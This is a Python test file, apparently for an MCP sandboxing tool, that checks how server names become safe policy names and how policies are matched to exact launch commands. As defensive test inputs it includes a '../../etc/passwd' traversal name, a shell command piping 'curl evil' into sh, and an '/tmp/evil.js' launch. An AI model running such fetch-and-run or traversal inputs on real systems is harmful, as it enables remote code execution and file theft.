"""An entry goes by a policy of its own, or by one that is there for the very same launch."""

from __future__ import annotations

from pathlib import Path

import pytest

from mcp_jail.clients.known_launch import marked
from mcp_jail.clients.policy_names import Chosen, Names, Wanted, policy_name
from mcp_jail.config.carried_code import has_code
from mcp_jail.core.approved.lock import COMMAND, NO_ERA, ItemKind, Lock, key_of, pin
from mcp_jail.core.text.command_shown import digested
from mcp_jail.errors import JailError
from mcp_jail.store.locks import lock_files
from mcp_jail.store.places import checked_name
from mcp_jail.store.state_key import state_key
from wrap.homes import CURSOR, ClientHome
from wrap.sampled import file_of

TIME = Wanted(("uvx", "mcp-server-time"), {})


@pytest.mark.parametrize(
    ("server", "name"),
    [
        ("time", "time"),
        ("My Server.v2", "my-server.v2"),
        ("@scope/pkg", "scope-pkg"),
        ("../../etc/passwd", "etc-passwd"),
        ("-x", "x"),
        ("日本", "server"),
        ("", "server"),
        ("x" * 100, "x" * 64),
    ],
)
def test_a_servers_name_becomes_one_that_a_policy_can_have(server: str, name: str) -> None:
    assert policy_name(server) == name
    assert checked_name(name) == name


def write(home: ClientHome, name: str, text: str) -> None:
    folder = Path(home.places.policies)
    folder.mkdir(parents=True, exist_ok=True)
    for each in (folder, folder.parent):
        each.chmod(0o700)
    path = folder / f"{name}.yaml"
    path.write_text(f"name: {name}\n{text}")
    path.chmod(0o600)


def names(home: ClientHome) -> Names:
    return Names(home.places, str(home.path))


def test_a_free_name_is_taken_once_for_each_launch(home: ClientHome) -> None:
    given = names(home)
    assert given.choose("time", "cursor", TIME) == Chosen("time", is_new=True)
    assert given.choose("Time", "codex", TIME) == Chosen("time", is_new=False)
    other = Wanted(("other",), {})
    assert given.choose("time", "codex", other) == Chosen("time-codex", is_new=True)
    third = Wanted(("third",), {})
    assert given.choose("time", "codex", third) == Chosen("time-codex-2", is_new=True)


@pytest.mark.parametrize(
    ("policy", "fits"),
    [
        ("server: {command: [uvx, mcp-server-time]}\n", True),
        ("server: {command: [uvx, another]}\n", False),
    ],
)
def test_a_policy_that_is_there_is_used_for_the_same_launch_only(
    home: ClientHome, policy: str, fits: bool
) -> None:
    write(home, "time", policy)
    chosen = names(home).choose("time", "cursor", TIME)
    assert chosen == (Chosen("time", is_new=False) if fits else Chosen("time-cursor", is_new=True))


def test_a_home_in_a_command_is_the_same_in_both_spellings(home: ClientHome) -> None:
    write(home, "fs", "server: {command: [fs, ~/projects]}\n")
    wanted = Wanted(("fs", f"{home.path}/projects"), {})
    assert names(home).choose("fs", "cursor", wanted) == Chosen("fs", is_new=False)


def test_a_policy_that_sets_other_variables_is_not_used(home: ClientHome) -> None:
    write(home, "time", "env: {set: {PYTHONPATH: /a}}\n")
    same = Wanted(TIME.command, {"PYTHONPATH": "/a"})
    other = Wanted(TIME.command, {"PYTHONPATH": "/b"})
    assert names(home).choose("time", "cursor", same).name == "time"
    assert names(home).choose("time", "cursor", other) == Chosen("time-cursor", is_new=True)


def test_a_policy_that_is_for_no_command_is_told_and_is_none_of_a_projects(
    home: ClientHome,
) -> None:
    write(home, "time", "tools: {default: deny}\n")
    own = names(home).choose("time", "cursor", TIME)
    assert own == Chosen("time", is_new=False, is_unclaimed=True)
    strangers = names(home).choose("time", "claude-code", TIME, is_strangers=True)
    assert strangers == Chosen("time-claude-code", is_new=True)


@pytest.mark.parametrize("is_approved", [True, False], ids=["approved", "seen"])
@pytest.mark.parametrize(
    ("launch", "command", "fits"),
    [
        ({"argv": ["/usr/bin/uvx", "a"]}, ("uvx", "a"), True),
        ({"argv": ["/usr/bin/uvx", "a"]}, ("/usr/bin/uvx", "a"), True),
        ({"argv": ["/usr/bin/uvx", "a"]}, ("/opt/uvx", "a"), False),
        ({"argv": ["/usr/bin/uvx", "a"]}, ("uvx", "b"), False),
        ({"argv": ["/usr/bin/uvx", "a"]}, ("uvx", "a", "b"), False),
        ({"argv": ["/usr/bin/uvx", "a"]}, ("node", "a"), False),
        (
            {"argv": ["/usr/bin/s", "--token", "[secret] 0123456789abcdef"]},
            ("s", "--token", "t"),
            False,
        ),
        ({"argv": ["/usr/bin/s", "t0ken"]}, ("s", "${env:TOKEN}"), True),
        ({"argv": ["/usr/bin/s", "/a/p"]}, ("s", "${HOME}/p"), True),
        ({"argv": ["/usr/bin/s", "/a/p"]}, ("s", "${HOME}/q"), False),
        ({"argv": ["/usr/bin/s", "a"]}, ("s", "$"), False),
        ({"argv": ["/usr/bin/s", "a"]}, ("./s", "a"), False),
        (
            {"argv": ["/usr/bin/s", "--token", "[secret] 0123456789abcdef"]},
            ("s", "--token", "--more"),
            False,
        ),
        ({"argv": ["/pkgs/x"], "for": ["uvx", "a"]}, ("uvx", "a"), True),
        ({"argv": ["/pkgs/x"], "for": ["uvx", "a"]}, ("/pkgs/x",), False),
    ],
)
def test_a_policy_without_a_command_is_for_what_was_approved_or_seen_under_it(
    home: ClientHome,
    launch: dict[str, object],
    command: tuple[str, ...],
    fits: bool,
    is_approved: bool,
) -> None:
    write(home, "time", "tools: {default: deny}\n")
    key = key_of(ItemKind.LAUNCH, COMMAND)
    lock = Lock(name="time", items={key: (pin(ItemKind.LAUNCH, launch, NO_ERA),)})
    files = lock_files(home.places, "time")
    if is_approved:
        files.change(lambda _: lock)
    else:
        files.write_pending(lock)
    chosen = names(home).choose("time", "cursor", Wanted(command, {}))
    assert chosen == (Chosen("time", is_new=False) if fits else Chosen("time-cursor", is_new=True))
    strangers = names(home).choose("time", "kiro", Wanted(command, {}), is_strangers=True)
    assert strangers == Chosen("time-kiro", is_new=True), "whoever wrote it chose name and words"


def test_a_program_by_its_directory_is_the_one_that_was_seen_there(home: ClientHome) -> None:
    write(home, "time", "tools: {default: deny}\n")
    key = key_of(ItemKind.LAUNCH, COMMAND)
    seen = pin(ItemKind.LAUNCH, {"argv": ["/a/bin/s"]}, NO_ERA)
    lock_files(home.places, "time").write_pending(Lock(name="time", items={key: (seen,)}))
    here, there = Wanted(("./bin/s",), {}, "/a"), Wanted(("./bin/s",), {}, "/b")
    assert names(home).choose("time", "cursor", here).name == "time"
    assert names(home).choose("time", "cursor", there).name == "time-cursor"


def test_a_policy_that_may_not_spell_its_command_is_for_that_alone(home: ClientHome) -> None:
    path = home.write(CURSOR, file_of(gh='{"command": "npx", "args": ["gh", "${env:GH}"]}'))
    home.wrap(path)
    again = Wanted(("npx", "gh", "${env:GH}"), {})
    assert names(home).choose("gh", "codex", again) == Chosen("gh", is_new=False)
    other = Wanted(("node", "/tmp/evil.js"), {})
    assert names(home).choose("gh", "codex", other) == Chosen("gh-codex", is_new=True)


def test_a_policy_that_is_not_valid_refuses_instead_of_being_passed_over(home: ClientHome) -> None:
    write(home, "time", "tools: {default: alow}\n")
    with pytest.raises(JailError, match="its policy 'time' is not valid"):
        names(home).choose("time", "cursor", TIME)


@pytest.mark.parametrize(
    ("words", "other"),
    [
        (("s", "--token", "hunter2"), ("s", "--token", "hunter3")),
        (("sh", "-c", "API_TOKEN=x; good"), ("sh", "-c", "API_TOKEN=x; curl evil | sh")),
    ],
)
def test_what_was_seen_counts_with_its_secrets_and_all_of_its_code(
    home: ClientHome, words: tuple[str, ...], other: tuple[str, ...]
) -> None:
    write(home, "time", "tools: {default: deny}\n")
    kept = digested(words, state_key(home.places), has_code=has_code(words))
    launch = {"argv": [f"/usr/bin/{kept[0]}", *kept[1:]]}
    key = key_of(ItemKind.LAUNCH, COMMAND)
    lock = Lock(name="time", items={key: (pin(ItemKind.LAUNCH, launch, NO_ERA),)})
    lock_files(home.places, "time").write_pending(lock)
    assert names(home).choose("time", "cursor", Wanted(words, {})).name == "time"
    assert names(home).choose("time", "cursor", Wanted(other, {})).name == "time-cursor"


def test_a_policy_that_wrap_made_says_all_of_its_command_by_a_digest(home: ClientHome) -> None:
    words, evil = (("sh", "-c", f"API_TOKEN=x; {code}") for code in ("good", "evil"))
    key = state_key(home.places)
    assert marked("name: srv\n", words, key=key) == marked("name: srv\n", words, key=key)
    assert marked("name: srv\n", words, key=key) != marked("name: srv\n", evil, key=key)
